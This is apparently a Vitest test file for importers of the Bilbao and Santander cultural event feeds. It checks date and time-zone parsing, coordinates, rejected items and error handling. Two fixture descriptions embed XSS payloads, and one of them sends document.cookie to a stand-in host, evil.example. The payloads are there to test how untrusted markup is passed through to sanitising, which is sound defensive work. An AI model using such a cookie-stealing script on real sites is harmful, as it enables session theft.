// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { parseBilbao } from '../../supabase/functions/_shared/import/adapters/bilbao.ts';
import { parseSantander } from '../../supabase/functions/_shared/import/adapters/santander.ts';
import { fixtureText } from '../fixtures/import/read.ts';

describe('Bilbao agenda adapter', () => {
  const text = fixtureText('bilbao/agenda.json');

  it('the fixture holds raw control characters that a strict JSON.parse refuses', () => {
    const controls = [...text].filter((c) => c.charCodeAt(0) < 0x20 && !'\t\n\r'.includes(c));
    expect(controls).toEqual(['\u0001']);
    expect(text).toContain('Exposici&oacute;n:\tBilbao');
    expect(() => JSON.parse(text)).toThrow();
  });

  const result = parseBilbao(text);

  it('reads a concert given for a day, decoding entities and turning the raw newline into a space', () => {
    expect(result.items[0]).toEqual({
      externalId: '90412',
      title: { es: 'ORQUESTA SINFONICA DE BILBAO. Concierto de Navidad' },
      description: { es: '<p>El tradicional concierto navideño de la BOS. Dirección: Erik Nielsen.</p>' },
      categoryHints: ['Música'],
      startDate: '2026-12-20',
      hoursText: '19:30h',
      priceText: 'Entradas: 15 € - 30 €',
      venue: 'Palacio Euskalduna Jauregia',
      address: 'Abandoibarra Etorbidea, 4',
      municipality: 'Bilbao',
      languages: [],
      cancelled: false,
    });
  });

  it('reads midnight timestamps as days, the hours staying in hora; a tab in the title becomes a space', () => {
    expect(result.items[1]).toEqual({
      externalId: '90413',
      title: { es: 'Exposición: Bilbao en el cine' },
      description: { es: '<p>Carteles, fotografías y «making of» de películas rodadas en la villa.</p>' },
      categoryHints: ['Exposiciones'],
      startDate: '2026-11-01',
      endDate: '2027-02-28',
      hoursText: 'De 10:00 a 14:00 y de 17:00 a 20:00',
      venue: 'Biblioteca de Bidebarrieta',
      address: 'Bidebarrieta, 4',
      municipality: 'Bilbao',
      languages: [],
      cancelled: false,
    });
  });

  it('reads clock times, appends non-price notes to the description and keeps its markup for the mapping', () => {
    expect(result.items[2]).toEqual({
      externalId: '90414',
      title: { es: 'Taller de ilustración para jóvenes' },
      description: {
        es:
          '<p>Dibuja tu barrio.</p><script>alert(\'xss\')</script><a href="javascript:alert(1)">Más información</a>' +
          '<p>Actividad en euskera. Inscripción previa.</p>',
      },
      categoryHints: ['Talleres'],
      startDate: '2026-12-21',
      startTime: '18:00',
      endTime: '20:00',
      hoursText: '18:00',
      venue: 'Centro cívico de San Francisco',
      address: 'Calle San Francisco, 8',
      municipality: 'Bilbao',
      languages: [],
      cancelled: false,
    });
  });

  it('reads an item without end, hours or address, with a free-entry note as its price', () => {
    expect(result.items[3]).toEqual({
      externalId: '90418',
      title: { es: 'Olentzero eta Mari Domingi' },
      description: { es: 'Kalejira tradicional por el Casco Viejo.' },
      categoryHints: ['Infantil'],
      startDate: '2026-12-24',
      priceText: 'Entrada libre hasta completar aforo',
      venue: 'Arriaga plaza',
      municipality: 'Bilbao',
      languages: [],
      cancelled: false,
    });
    expect(result.items).toHaveLength(4);
  });

  it('rejects item by item: no start, no title, an impossible day', () => {
    expect(result.rejected).toEqual([
      { externalId: '90415', reason: 'sin fecha de inicio' },
      { externalId: '90416', reason: 'sin título' },
      { externalId: '90417', reason: 'fecha no válida: «31-11-2026»' },
    ]);
  });

  it('throws on a document that is not a JSON list, even after cleaning', () => {
    expect(() => parseBilbao('{"error": "mantenimiento"}')).toThrow(
      'Agenda de Bilbao: se esperaba una lista JSON de actos',
    );
    expect(() => parseBilbao('<html><body>Error 500</body></html>')).toThrow(
      /Agenda de Bilbao: el documento no es JSON válido/,
    );
  });
});

describe('Santander agenda adapter', () => {
  const result = parseSantander(fixtureText('santander/agenda_cultural.json'));

  it('reads a time without offset as Madrid wall time, and the string coordinates', () => {
    expect(result.items[0]).toEqual({
      externalId: '48211',
      title: { es: 'Concierto: Orquesta Sinfónica del Cantábrico' },
      description: {
        es: '<p>Programa con obras de Falla y Turina. Entradas en taquilla y en la web del Palacio.</p>',
      },
      categoryHints: ['Música'],
      startDate: '2026-12-05',
      startTime: '20:00',
      municipality: 'Santander',
      latitude: 43.4593,
      longitude: -3.7917,
      url: 'https://www.santandercultura.es/agenda/48211',
      imageUrl: 'https://www.santandercultura.es/imagenes/48211.jpg',
      languages: [],
      cancelled: false,
    });
  });

  it('converts a time with an offset or Z to Madrid wall time (winter: UTC+1)', () => {
    expect(result.items[1]).toEqual({
      externalId: '48212',
      title: { es: 'Teatro: Luces de bohemia' },
      description: { es: '<p>Versión de la obra de Valle-Inclán.</p>' },
      categoryHints: ['Teatro'],
      startDate: '2026-12-06',
      startTime: '19:00',
      municipality: 'Santander',
      latitude: 43.4647,
      longitude: -3.8044,
      url: 'https://www.santandercultura.es/agenda/48212',
      languages: [],
      cancelled: false,
    });
    expect(result.items[2]).toEqual({
      externalId: '48213',
      title: { es: 'Cine en versión original: Vértigo' },
      description: { es: 'Proyección en V.O.S.E.' },
      categoryHints: ['Cine'],
      startDate: '2026-12-07',
      startTime: '19:30',
      municipality: 'Santander',
      latitude: 43.4612,
      longitude: -3.808,
      url: 'https://www.santandercultura.es/agenda/48213',
      languages: [],
      cancelled: false,
    });
  });

  it('reads midnight as a day without time and 0,0 as no coordinates', () => {
    expect(result.items[3]).toEqual({
      externalId: '48214',
      title: { es: 'Exposición: Santander, puerto y ciudad' },
      description: { es: '<p>Horario: de martes a domingo, de 11:00 a 13:30 y de 17:30 a 21:00.</p>' },
      categoryHints: ['Exposiciones'],
      startDate: '2026-12-10',
      municipality: 'Santander',
      url: 'https://www.santandercultura.es/agenda/48214',
      languages: [],
      cancelled: false,
    });
  });

  it('drops javascript: and data: links and leaves the <script> of a description to the mapping', () => {
    expect(result.items[4]).toEqual({
      externalId: '48215',
      title: { es: 'Taller infantil de Navidad' },
      description: {
        es: "<p>Para niños de 6 a 12 años.</p><script>document.location='https://evil.example/'+document.cookie</script>",
      },
      categoryHints: ['Infantil'],
      startDate: '2026-12-22',
      startTime: '11:00',
      municipality: 'Santander',
      latitude: 43.462,
      longitude: -3.81,
      languages: [],
      cancelled: false,
    });
    expect(result.items).toHaveLength(5);
  });

  it('rejects item by item: no date, an impossible month, a blank name', () => {
    expect(result.rejected).toEqual([
      { externalId: '48216', reason: 'sin fecha de inicio' },
      { externalId: '48217', reason: 'fecha no válida: «2026-13-01T10:00:00»' },
      { externalId: '48218', reason: 'sin título' },
    ]);
  });

  it('throws on a document without its resources list', () => {
    expect(() => parseSantander('{"summary": {}}')).toThrow(
      'Agenda cultural de Santander: la respuesta no tiene la lista «resources»',
    );
    expect(() => parseSantander('')).toThrow(/Agenda cultural de Santander: el documento no es JSON válido/);
  });
});
